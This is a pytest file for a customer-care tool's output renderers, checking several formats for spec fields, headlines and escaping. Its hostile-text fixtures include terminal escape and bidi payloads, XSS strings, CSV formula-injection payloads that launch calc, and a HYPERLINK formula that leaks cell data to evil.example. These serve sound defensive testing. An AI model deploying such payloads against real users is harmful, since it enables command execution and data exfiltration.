"""Renderers: every format parses with a standard parser, carries SPEC.md's fields, and
turns hostile mention text (terminal escapes, bidi overrides, rich markup, formulas) inert."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from test_sla import POLICY, at, stored

from webcare import report
from webcare.model import Route, StoredMention, UrgencyLevel
from webcare.render import OutputFormat, Terminal, render_analyses, render_listing, resolve
from webcare.report import Listing
from webcare.settings import Settings

NOW = at(0)
SETTINGS = Settings(sla=POLICY)
MONO = Terminal(width=100, color=False)
COLOUR = Terminal(width=100, color=True)

SPEC_FIELDS = {
    "id", "source", "channel", "url", "author", "author_reach", "text", "language", "created_at",
    "rating", "sentiment", "urgency", "route", "sla", "priority", "responded_at", "responded_by",
}  # fmt: skip
FLAT_SPEC_FIELDS = {
    "id", "source", "channel", "url", "author", "author_reach", "text", "language", "created_at",
    "rating", "sentiment_score", "sentiment_label", "urgency_level", "urgency_reasons", "route",
    "sla_target_minutes", "sla_due_at", "sla_status", "sla_overdue_minutes", "priority_score",
    "priority_rank", "priority_why", "responded_at", "responded_by",
}  # fmt: skip


def everyday_items() -> list[StoredMention]:
    return [
        stored(
            "Mijn pakket is nog steeds niet bezorgd, al drie keer gebeld",
            created=at(-150), score=-0.8, author="femke_dekker82", reach=12_000,
            url="https://social.example/@femke_dekker82/status/1", route=Route.JUDGEMENT,
        ),
        stored(
            "Can't log in to the app since this morning, is there an outage?",
            created=at(-50), score=-0.6, level=UrgencyLevel.HIGH, reasons=("outage: \"Can't log in\"",),
            categories=("outage",), author="lukas_schmidt_nl", language="en",
        ),
        stored("Wanneer wordt mijn bestelling geleverd?", created=at(-10), author=None),
        stored("Top service, bedankt!", created=at(-300), score=0.8, level=UrgencyLevel.LOW, responded=at(-290)),
        stored(
            "Bezorger was veel te laat", channel="review", created=at(-2000), rating=2, score=-0.5,
            author="Sam K.", responded=at(-200),
        ),
    ]  # fmt: skip


def report_of(items: list[StoredMention], limit: int | None = None) -> Listing:
    return report.build_report(items, SETTINGS, now=NOW, generated_at=at(3), limit=limit)


def listing_of(items: list[StoredMention]) -> Listing:
    ranks = report.floor_ranks(items, SETTINGS, NOW)
    return report.build_listing(items, SETTINGS, now=NOW, generated_at=at(3), floor_ranks=ranks)


def parse_delimited(text: str, delimiter: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text), delimiter=delimiter))


# ---------------------------------------------------------------- machine formats parse


def test_json_is_one_document_with_the_spec_fields() -> None:
    listing = report_of(everyday_items())
    document = json.loads(render_listing(listing, OutputFormat.JSON, MONO))
    assert set(document) == {"generated_at", "now", "summary", "mentions", "incidents"}
    assert document["now"] == "2026-11-23T07:00:00Z"
    assert document["generated_at"] == "2026-11-23T07:03:00Z"
    assert document["summary"]["breached"] == 1
    assert document["summary"]["at_risk"] == 1
    assert "responded" not in document["summary"]  # the report reads unanswered mentions
    assert [m["priority"]["rank"] for m in document["mentions"]] == [1, 2]
    # The high-urgency outage at risk comes before a normal question 1h 30m late.
    assert document["mentions"][0]["urgency"]["level"] == "high"
    first = document["mentions"][1]
    assert SPEC_FIELDS <= set(first)
    assert first["text"] == "Mijn pakket is nog steeds niet bezorgd, al drie keer gebeld"
    assert first["author_reach"] == 12000
    assert first["created_at"] == "2026-11-23T04:30:00Z"
    assert first["sentiment"] == {"score": -0.8, "label": "neg", "words": ["nog steeds niet"]}
    assert first["sla"]["status"] == "breached"
    assert first["sla"]["overdue_minutes"] == 90
    assert first["sla"]["due_at"] == "2026-11-23T05:30:00Z"
    assert first["route"] == "judgement"
    assert first["responded_at"] is None
    assert document["mentions"][0]["sla"]["status"] == "at_risk"


def test_json_of_a_listing_carries_responses() -> None:
    document = json.loads(render_listing(listing_of(everyday_items()), OutputFormat.JSON, MONO))
    responded = [m for m in document["mentions"] if m["sla"]["status"] == "responded"]
    assert [
        (m["responded_at"], m["responded_by"], m["sla"]["responded_late"]) for m in responded
    ] == [
        ("2026-11-23T02:10:00Z", "AcmeCare", False),
        ("2026-11-23T03:40:00Z", "AcmeCare", True),
    ]
    assert responded[1]["sla"]["overdue_minutes"] == 360  # how late the answer came
    assert responded[1]["rating"] == 2


def test_jsonl_is_one_mention_object_per_line_matching_the_json_document() -> None:
    listing = listing_of(everyday_items())
    lines = render_listing(listing, OutputFormat.JSONL, MONO).splitlines()
    assert len(lines) == 5
    records = [json.loads(line) for line in lines]
    assert all(SPEC_FIELDS <= set(record) for record in records)
    assert records == json.loads(render_listing(listing, OutputFormat.JSON, MONO))["mentions"]


@pytest.mark.parametrize(("fmt", "delimiter"), [(OutputFormat.CSV, ","), (OutputFormat.TSV, "\t")])
def test_csv_and_tsv_flatten_nested_fields_with_underscores(
    fmt: OutputFormat, delimiter: str
) -> None:
    listing = listing_of(everyday_items())
    rows = parse_delimited(render_listing(listing, fmt, MONO), delimiter)
    records = json.loads(render_listing(listing, OutputFormat.JSON, MONO))["mentions"]
    assert len(rows) == len(records) == 5
    assert FLAT_SPEC_FIELDS <= set(rows[0])
    for row, record in zip(rows, records, strict=True):
        assert row["id"] == record["id"]
        assert row["text"] == record["text"]
        assert row["sla_status"] == record["sla"]["status"]
        assert row["sla_due_at"] == record["sla"]["due_at"]
        # The rank on the floor, empty for a mention that is not on it.
        assert row["priority_rank"] == str(record["priority"]["rank"] or "")
        assert float(row["sentiment_score"]) == record["sentiment"]["score"]
        assert row["author"] == (record["author"] or "")  # null is an empty cell
        assert row["responded_at"] == (record["responded_at"] or "")


def test_tsv_keeps_one_mention_per_line_whatever_the_text() -> None:
    item = stored("Regel een\n\nregel\ttwee\r\nregel drie", created=at(-100))
    lines = render_listing(report_of([item]), OutputFormat.TSV, MONO).splitlines()
    assert len(lines) == 2
    header, row = (line.split("\t") for line in lines)
    assert len(header) == len(row)
    assert row[header.index("text")] == "Regel een regel twee regel drie"


def test_csv_keeps_line_breaks_inside_a_quoted_cell() -> None:
    item = stored('Regel een\nregel "twee", met komma', created=at(-100))
    (row,) = parse_delimited(render_listing(report_of([item]), OutputFormat.CSV, MONO), ",")
    assert row["text"] == 'Regel een\nregel "twee", met komma'


def test_an_empty_report_is_still_valid_in_every_machine_format() -> None:
    empty = report_of([stored(created=at(-5))])  # ok: nothing on the floor
    assert json.loads(render_listing(empty, OutputFormat.JSON, MONO))["mentions"] == []
    assert render_listing(empty, OutputFormat.JSONL, MONO) == ""
    assert parse_delimited(render_listing(empty, OutputFormat.CSV, MONO), ",") == []


@pytest.mark.parametrize(("fmt", "delimiter"), [(OutputFormat.CSV, ","), (OutputFormat.TSV, "\t")])
def test_an_empty_report_keeps_the_header_row_of_a_full_one(
    fmt: OutputFormat, delimiter: str
) -> None:
    # `cut`, `csvkit` and a spreadsheet import all want the columns, rows or none.
    empty = render_listing(report_of([stored(created=at(-5))]), fmt, MONO)
    full = render_listing(report_of(everyday_items()), fmt, MONO)
    assert empty.count("\n") == 1
    assert empty == full.split("\n", 1)[0] + "\n"
    assert FLAT_SPEC_FIELDS <= set(empty.rstrip("\n").split(delimiter))
    assert empty == render_listing(listing_of([]), fmt, MONO)  # `mentions` that match nothing


# ---------------------------------------------------------------- people formats


def test_table_opens_with_the_headline() -> None:
    text = render_listing(report_of(everyday_items()), OutputFormat.TABLE, MONO)
    assert (
        text.splitlines()[0] == "2 steaks on the floor: 1 breached, 1 at risk — oldest 1h 30m over"
    )
    assert "femke_dekker82" in text
    assert "BREACHED" in text and "AT RISK" in text
    assert "\x1b" not in text  # colour off: not a single escape


@pytest.mark.parametrize(
    ("items", "limit", "headline"),
    [
        ([stored(created=at(-100))], None, "1 steak on the floor: 1 breached — oldest 40m over"),
        ([stored(created=at(-50))], None, "1 steak on the floor: 1 at risk"),
        ([stored(created=at(-5)), stored("Dank!", created=at(-1))], None,
         "Nothing on the floor: 2 open mention(s), all within their SLA."),
        ([stored(f"Pakket {n} kwijt", created=at(-100 - n)) for n in range(4)], 2,
         "4 steaks on the floor: 4 breached — oldest 43m over (showing the worst 2)"),
    ],
)  # fmt: skip
def test_headline_wording(items: list[StoredMention], limit: int | None, headline: str) -> None:
    text = render_listing(report_of(items, limit), OutputFormat.TABLE, MONO)
    assert text.splitlines()[0] == headline


def test_table_fits_the_terminal_width() -> None:
    for width in (60, 80, 140):
        text = render_listing(
            report_of(everyday_items()), OutputFormat.TABLE, Terminal(width=width)
        )
        assert max(len(line) for line in text.splitlines()) <= width


def test_mentions_table_headline_counts_every_status() -> None:
    text = render_listing(listing_of(everyday_items()), OutputFormat.TABLE, MONO)
    assert text.splitlines()[0] == "5 of 5 mention(s): 1 breached, 1 at risk, 1 ok, 2 responded"


def test_plain_is_tab_separated_with_stable_columns() -> None:
    listing = listing_of(everyday_items())
    lines = render_listing(listing, OutputFormat.PLAIN, MONO).splitlines()
    assert len(lines) == 5
    rows = [line.split("\t") for line in lines]
    assert {len(row) for row in rows} == {14}
    by_text = {row[13]: row for row in rows}
    femke = by_text["Mijn pakket is nog steeds niet bezorgd, al drie keer gebeld"]
    assert femke[2:11] == ["breached", "+90", "social", "social-export", "normal", "neg", "-0.80", "judgement",
                           "2026-11-23T04:30:00Z"]  # fmt: skip
    assert femke[11:13] == ["femke_dekker82", "https://social.example/@femke_dekker82/status/1"]
    assert by_text["Wanneer wordt mijn bestelling geleverd?"][2:4] == ["ok", "-50"]
    assert by_text["Wanneer wordt mijn bestelling geleverd?"][11:13] == [
        "-",
        "-",
    ]  # no author, no url
    assert by_text["Top service, bedankt!"][2:4] == ["responded", "0"]
    assert by_text["Bezorger was veel te laat"][2:5] == ["responded", "+360", "review"]  # 6 h late
    # The rank is the mention's place on the floor, as in the report; `-` when not on it.
    ranks = {row[13]: row[0] for row in rows}
    assert ranks["Can't log in to the app since this morning, is there an outage?"] == "1"
    assert ranks["Mijn pakket is nog steeds niet bezorgd, al drie keer gebeld"] == "2"
    assert sorted(ranks.values()) == ["-", "-", "-", "1", "2"]
    assert all(re.fullmatch(r"[0-9a-f]{16}", row[1]) for row in rows)


def test_plain_has_no_header_and_no_escape_codes() -> None:
    text = render_listing(report_of(everyday_items()), OutputFormat.PLAIN, COLOUR)
    assert "\x1b" not in text
    assert not text.startswith(("rank", "#"))
    assert text.splitlines()[0].startswith("1\t")


# ---------------------------------------------------------------- hostile text

ESCAPES = (
    "\x1b[31mROOD\x1b[0m \x1b[2J\x1b[H scherm weg "
    "\x1b]8;;https://evil.example/\x1b\\klik hier\x1b]8;;\x1b\\ "
    "\x9b31m C1-CSI \x85 \u202egnipmilk\u202c \u2066isolaat\u2069 \u200fRLM"
)
HOSTILE = [
    ESCAPES,
    "[bold red]x[/bold red] [link=https://evil]gratis geld[/link]",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "<script>alert(1)</script>",
]
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "@SUM(1)", "-2+3")


def hostile_listing() -> Listing:
    items = [
        stored(
            text, created=at(-100 - n), author=f"troll{n}\x1b[2J\u202e", source="import-evil\x1b[5m",
            url="javascript:alert(1)",
        )
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    return report_of(items)


BAD_CHARACTERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SGR = re.compile(r"\x1b\[[0-9;]*m")


@pytest.mark.parametrize("fmt", list(OutputFormat))
@pytest.mark.parametrize("terminal", [MONO, COLOUR], ids=["mono", "colour"])
def test_hostile_text_comes_out_inert_in_every_format(
    fmt: OutputFormat, terminal: Terminal
) -> None:
    text = render_listing(hostile_listing(), fmt, terminal)
    # The only escapes left are rich's own colours in a colour table: no cursor moves,
    # no screen clears, no OSC 8 hyperlinks, no C1 controls, no bidi overrides.
    remaining = SGR.sub("", text) if fmt is OutputFormat.TABLE and terminal.color else text
    assert BAD_CHARACTERS.findall(remaining.replace("\t", "").replace("\n", "")) == []
    assert "\x1b]8" not in text
    assert "[2J" not in SGR.sub("", text).replace("\\u001b[2J", "")


def test_rich_markup_in_a_mention_is_printed_literally_in_a_colour_table() -> None:
    text = render_listing(hostile_listing(), OutputFormat.TABLE, Terminal(width=200, color=True))
    plain = SGR.sub("", text)
    assert "[bold red]x[/bold red] [link=https://evil]gratis geld[/link]" in plain
    assert "javascript:alert(1)" in plain  # shown, never made a link
    assert "<script>alert(1)</script>" in plain


def test_csv_defuses_every_cell_a_spreadsheet_could_read_as_a_formula() -> None:
    rows = parse_delimited(render_listing(hostile_listing(), OutputFormat.CSV, MONO), ",")
    texts = {row["text"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in texts
        assert formula not in texts
    # Numbers are numbers, not text that looks like a formula.
    assert all(not row["sentiment_score"].startswith("'") for row in rows)
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())


RUNNABLE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+HYPERLINK("https://evil.example/?leak="&A1, "klik")',
    "@SUM(1)",
    "=1+1",
    "\uff1dcmd|' /C calc'!A0",  # full-width equals sign
)
"""Cells that run as a formula (a command, a function call): inert in CSV and TSV alike."""
PIPELINE_TEXT = (
    "@bolderkar waar blijft mijn pakket?",
    "-3 graden en nog steeds geen bezorging",
    "+31 6 12345678 belt niet terug",
    "+1 voor de bezorger",
)
"""Cells a pipeline wants as written: an @reply, a number, a phone number; nothing runs."""


def delimited_texts(fmt: OutputFormat, delimiter: str, texts: tuple[str, ...]) -> list[str]:
    items = [stored(text, created=at(-100 - n)) for n, text in enumerate(texts)]
    rows = parse_delimited(render_listing(report_of(items), fmt, MONO), delimiter)
    by_created = sorted(rows, key=lambda row: row["created_at"], reverse=True)
    return [row["text"] for row in by_created]


@pytest.mark.parametrize(("fmt", "delimiter"), [(OutputFormat.CSV, ","), (OutputFormat.TSV, "\t")])
def test_a_runnable_formula_is_inert_in_csv_and_tsv(fmt: OutputFormat, delimiter: str) -> None:
    assert delimited_texts(fmt, delimiter, RUNNABLE) == ["'" + text for text in RUNNABLE]


def test_tsv_keeps_replies_numbers_and_phone_numbers_as_written_while_csv_guards_them() -> None:
    assert delimited_texts(OutputFormat.TSV, "\t", PIPELINE_TEXT) == list(PIPELINE_TEXT)
    assert delimited_texts(OutputFormat.CSV, ",", PIPELINE_TEXT) == [
        "'" + text for text in PIPELINE_TEXT
    ]


def test_tsv_guards_an_at_reply_only_when_it_holds_a_call_or_a_pipe() -> None:
    texts = ("@bolderkar pakket (order 123) kwijt", "@bolderkar app | website plat")
    assert delimited_texts(OutputFormat.TSV, "\t", texts) == ["'" + text for text in texts]


def test_json_escapes_strings_and_round_trips_them() -> None:
    tricky = 'Zei "klantenservice": C:\\pad\\naar\\bon.pdf\nnieuwe regel, café, 😤, € 84,50'
    for text in (tricky, *HOSTILE):
        document = json.loads(
            render_listing(report_of([stored(text, created=at(-100))]), OutputFormat.JSON, MONO)
        )
        assert document["mentions"][0]["text"] == text
    output = render_listing(hostile_listing(), OutputFormat.JSON, MONO)
    assert output.isascii()  # every control and bidi character is a \\uXXXX escape
    assert "\\u202e" in output and "\\u001b" in output


@pytest.mark.parametrize("fmt", [OutputFormat.PLAIN, OutputFormat.TABLE])
def test_people_formats_show_the_visible_words_of_hostile_text(fmt: OutputFormat) -> None:
    text = render_listing(hostile_listing(), fmt, Terminal(width=300))
    assert "ROOD" in text
    assert "klik hier" in text
    assert "gnipmilk" in text


# ---------------------------------------------------------------- format dispatch


def analysis_rows() -> list[dict[str, Any]]:
    return [
        {
            "text": "Mijn pakket is nog steeds niet bezorgd",
            "language": "nl",
            "sentiment": {"score": -0.56, "label": "neg", "words": ["nog steeds niet"]},
            "urgency": {"level": "normal", "reasons": [], "categories": []},
            "topics": ["delivery"],
            "route": "judgement",
            "route_reason": "emotional high (strongly negative (-0.56)), monetary low",
        },
        {
            "text": '=HYPERLINK("https://evil")',
            "language": "und",
            "sentiment": {"score": 0.0, "label": "neu", "words": []},
            "urgency": {"level": "normal", "reasons": [], "categories": []},
            "topics": [],
            "route": "automate",
            "route_reason": "emotional low, monetary low",
        },
    ]


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_every_output_format_renders_a_listing_and_analyses(fmt: OutputFormat) -> None:
    wide = Terminal(width=200)
    listing_text = render_listing(report_of(everyday_items()), fmt, wide)
    assert "femke_dekker82" in listing_text
    analyses_text = render_analyses(analysis_rows(), fmt, wide)
    assert "nog steeds niet bezorgd" in analyses_text
    assert "'=HYPERLINK" in analyses_text or fmt not in (OutputFormat.CSV, OutputFormat.TSV)


@pytest.mark.parametrize("fmt", list(OutputFormat))
def test_every_format_renders_one_mention_and_eval_figures_with_hostile_text_inert(
    fmt: OutputFormat,
) -> None:
    from webcare.evaluate import Score
    from webcare.render import ShowView, renderer

    rows = hostile_listing().rows
    records = [report.mention_record(row) for row in rows]
    actions = [
        {"action": "ack", "by": HOSTILE[0], "at": "2026-11-23T07:10:00Z", "note": HOSTILE[1]}
    ]
    view = ShowView(records[0], actions, records[1:], POLICY.timezone)
    out = renderer(fmt, Terminal(width=160, color=False)).show(view)
    assert records[0]["id"][:8] in out
    assert BAD_CHARACTERS.findall(out.replace("\t", "").replace("\n", "")) == []
    if fmt is OutputFormat.HTML:
        assert "<script>" not in out
    score = Score("labels/nl.tsv", 12, 0.5, 0.75, 1000.0, {"neg": 0.5})
    figures = renderer(fmt, Terminal()).sentiment_eval([score])
    assert "0.75" in figures and "nl.tsv" in figures


@pytest.mark.parametrize("width", [60, 80, 100, 160])
def test_analyses_table_keeps_the_text_readable_next_to_long_reasons(width: int) -> None:
    rows = analysis_rows()
    rows[0] = {**rows[0], "text": "Mijn vader is vorige week overleden. Hoe zeg ik zijn abonnement "
               "op? Er komt nog steeds elke donderdag een maaltijdbox voor hem."}  # fmt: skip
    text = render_analyses(rows, OutputFormat.TABLE, Terminal(width=width))
    lines = text.splitlines()
    assert max(len(line) for line in lines) <= width  # nothing cut on the right
    assert "Mijn vader is vorige week overleden." in text  # not folded one letter per line
    assert "emotional high (strongly negative (-0.56)), monetary low" in " ".join(
        line.strip() for line in lines
    )  # the reasons are there whole, wrapped
    assert len(lines) < 20


def test_every_format_the_cli_offers_has_a_renderer_for_every_view() -> None:
    from webcare.render import FORMATS, Renderer, renderer

    assert set(FORMATS) == set(OutputFormat)
    for fmt in OutputFormat:
        assert isinstance(renderer(fmt), Renderer)  # abstract views would not instantiate


@pytest.mark.parametrize(
    ("given", "tty", "expected"),
    [(None, True, OutputFormat.TABLE), (None, False, OutputFormat.PLAIN),
     (OutputFormat.JSON, True, OutputFormat.JSON), (OutputFormat.TABLE, False, OutputFormat.TABLE)],
)  # fmt: skip
def test_default_format_is_table_on_a_terminal_and_plain_otherwise(
    given: OutputFormat | None, tty: bool, expected: OutputFormat
) -> None:
    assert resolve(given, tty) is expected


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_report_with_nothing_on_the_floor_prints_just_the_header(
    fmt: str, tmp_path: Path, store_url: str
) -> None:
    from typer.testing import CliRunner

    from webcare.cli import app

    export = tmp_path / "social.jsonl"
    row = {"id": "1", "text": "Waar blijft mijn pakket?", "created_at": "2026-11-23T07:59:00Z"}
    export.write_text(json.dumps(row) + "\n", encoding="utf-8")
    common = ["--db", store_url, "--now", "2026-11-23T08:00:00Z"]
    runner = CliRunner()
    imported = runner.invoke(
        app, ["import", str(export), "--kind", "jsonl", "--no-filter", *common]
    )
    assert imported.exit_code == 0, imported.output
    result = runner.invoke(app, ["report", "--format", fmt, *common])
    assert result.exit_code == 0, result.output
    (header,) = result.stdout.splitlines()
    assert header.split("," if fmt == "csv" else "\t")[:3] == ["id", "source", "channel"]
